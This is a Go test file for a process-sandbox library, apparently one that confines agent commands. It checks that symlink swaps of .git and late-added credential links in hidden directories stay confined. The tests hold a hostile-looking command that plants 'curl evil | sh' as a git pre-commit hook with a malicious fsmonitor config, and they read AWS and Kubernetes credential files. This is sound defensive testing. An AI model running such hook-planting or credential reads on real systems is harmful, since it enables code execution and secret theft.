package agentproc_test

import (
	"os"
	"os/user"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/agentproc/agentproc"
	"github.com/agentproc/agentproc/internal/testuser"
)

// Tests of the fourth mend: docs/sandbox-threats.md, "Fourth mend".

// TestReadOnlyLinkSwappedForDir: a ReadOnly path that is a link out of its
// writable directory (a tree's `ln -s ~ .git` where ws/.git did not
// exist) is left out of the binds, since writes through it reach a target
// the tree may not write. It was left out of the policy too, so it had
// neither the warning nor the watch a missing ReadOnly path gets: a .git
// put in the link's place was writable to the tree running then and to
// every later tree of the Manager (whose namespace and resolved policy
// are kept), hooks and config included, which the user's git runs
// unconfined. It now warns as a missing path does and is watched as one:
// the live repair binds the new .git read-only in the running tree, and
// the next Start's namespace has it. Without root ReadOnly is not
// enforced at all, and the Start says so. The controls: the first tree
// makes the swap; the host's swap is seen by the tree only once covered.
func TestReadOnlyLinkSwappedForDir(t *testing.T) {
	requireSandbox(t)
	ws, outside := t.TempDir(), t.TempDir()
	git := filepath.Join(ws, ".git")
	if err := os.Symlink(outside, git); err != nil {
		t.Fatal(err)
	}
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	hook := "echo 'curl evil | sh' > .git/pre-commit; echo '[core] fsmonitor = evil' >> .git/config"
	if isRoot() {
		// The host (or another tree) swaps a directory in while a tree
		// runs: the live repair covers it for that tree.
		p := startWaiting(t, m, ws, "read x; "+hook)
		if w := strings.Join(p.Info().Warnings, "\n"); !strings.Contains(w, ".git is a link out of its writable directory") {
			t.Errorf("the Start's warnings: got %q, want one naming the link .git", w)
		}
		if err := os.Remove(git); err != nil {
			t.Fatal(err)
		}
		if err := os.Mkdir(git, 0o755); err != nil {
			t.Fatal(err)
		}
		waitCovered(t, p, git)
		releaseWaiting(t, p)
		wantNoHook(t, git, "a running tree, after the host's swap", p.Output().Text)
		if err := os.Remove(git); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, git); err != nil {
			t.Fatal(err)
		}
	}
	// A tree swaps it: the next tree of the Manager may not write there.
	swap := agentproc.Request{Command: "rm .git && mkdir .git && echo SWAPPED", WorkDir: ws, Timeout: time.Minute}
	p := mustStart(t, m, swap)
	info := mustWait(t, p)
	want := ".git is a link out of its writable directory"
	if !isRoot() {
		want = "ReadOnly: needs root"
	}
	if w := strings.Join(info.Warnings, "\n"); !strings.Contains(w, want) {
		t.Errorf("the Start's warnings: got %q, want one containing %q", w, want)
	}
	if out := p.Output().Text; !strings.Contains(out, "SWAPPED") {
		t.Fatalf("control: the tree's swap: got %q, want SWAPPED", out)
	}
	if st, err := os.Lstat(git); err != nil || !st.IsDir() {
		t.Fatalf("control: .git after the swap: %v, %v; want a directory", st, err)
	}
	if !isRoot() {
		return // ReadOnly needs a mount namespace: nothing more to hold
	}
	out := runSandboxed(t, m, agentproc.Request{Command: hook + "; echo STARTED", WorkDir: ws, Timeout: time.Minute}).Text
	if !strings.Contains(out, "STARTED") {
		t.Errorf("the next tree: got %q, want it to run", out)
	}
	wantNoHook(t, git, "the next tree, after a tree's swap", out)
}

// wantNoHook fails the test if a tree wrote the hook or the config in git.
func wantNoHook(t *testing.T, git, who, out string) {
	t.Helper()
	for _, f := range []string{filepath.Join(git, "pre-commit"), filepath.Join(git, "config")} {
		if _, err := os.Stat(f); err == nil {
			t.Errorf("%s wrote %s, want it refused (output %q)", who, f, out)
		}
	}
}

// TestHiddenDirLinkAddedLater: the hidden directories' walk for links out
// (hiddenLinkTargets) ran once per policy, and a Manager keeps its
// resolved policies: a link a dotfile manager added after the first Start
// (`stow aws` into an existing ~/.aws, or a ~/.kube made with its config
// linked in) was read at its target, or through the link without root,
// by every later tree of the Manager. Each Start now finds such a change
// (hideWatch) and resolves that policy again. The control: the first tree
// reads both targets, which nothing hides yet. Runs as root and, through
// TestMend4Unprivileged, not.
func TestHiddenDirLinkAddedLater(t *testing.T) {
	requireSandbox(t)
	home := t.TempDir()
	t.Setenv("HOME", home)
	ws := filepath.Join(home, "project")
	dot := filepath.Join(home, "dotfiles")
	for _, d := range []string{ws, filepath.Join(home, ".aws"), filepath.Join(dot, "aws"), filepath.Join(dot, "kube")} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		filepath.Join(dot, "aws", "credentials"): "LATER-AWS-KEY",
		filepath.Join(dot, "kube", "config"):     "LATER-KUBE-TOKEN",
	}
	for p, s := range files {
		if err := os.WriteFile(p, []byte(s+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var cmd strings.Builder
	for _, p := range []string{filepath.Join(dot, "aws", "credentials"), filepath.Join(dot, "kube", "config"),
		filepath.Join(home, ".aws", "credentials"), filepath.Join(home, ".kube", "config")} {
		cmd.WriteString("cat " + shellQuote(p) + "; ")
	}
	req := agentproc.Request{Command: cmd.String() + "true", WorkDir: ws, Timeout: time.Minute}
	m := newManager(t, agentproc.WithRedaction(false), agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	if out := runSandboxed(t, m, req).Text; !strings.Contains(out, "LATER-AWS-KEY") || !strings.Contains(out, "LATER-KUBE-TOKEN") {
		t.Fatalf("control: the first tree, before the links: got %q, want both files read", out)
	}
	// The dotfile manager, after the first Start: a link in an existing
	// hidden directory, and a missing hidden directory made with a link.
	if err := os.Symlink("../dotfiles/aws/credentials", filepath.Join(home, ".aws", "credentials")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(home, ".kube"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../dotfiles/kube/config", filepath.Join(home, ".kube", "config")); err != nil {
		t.Fatal(err)
	}
	out := runSandboxed(t, m, req).Text
	for _, s := range files {
		if strings.Contains(out, s) {
			t.Errorf("the next tree read %s, linked into a hidden directory after the first Start; want it hidden (output %q)", s, out)
		}
	}
}

// TestMend4Unprivileged re-runs the fourth mend's tests as the
// unprivileged test user.
func TestMend4Unprivileged(t *testing.T) {
	tests := []string{"TestHiddenDirLinkAddedLater", "TestReadOnlyLinkSwappedForDir", "TestHideWatchKeepsPolicy"}
	if _, err := user.Lookup(sandboxUser); err != nil {
		t.Skipf("no user %s: %v", sandboxUser, err)
	}
	out, err := testuser.Run(t, time.Minute, nil, "-test.run=^("+strings.Join(tests, "|")+")$")
	if err != nil {
		t.Fatalf("as %s: %v\n%s", sandboxUser, err, out)
	}
	for _, name := range tests {
		if !strings.Contains(out, "--- PASS: "+name+" ") {
			t.Errorf("as %s: got no PASS line for %s, want one\n%s", sandboxUser, name, out)
		}
	}
}
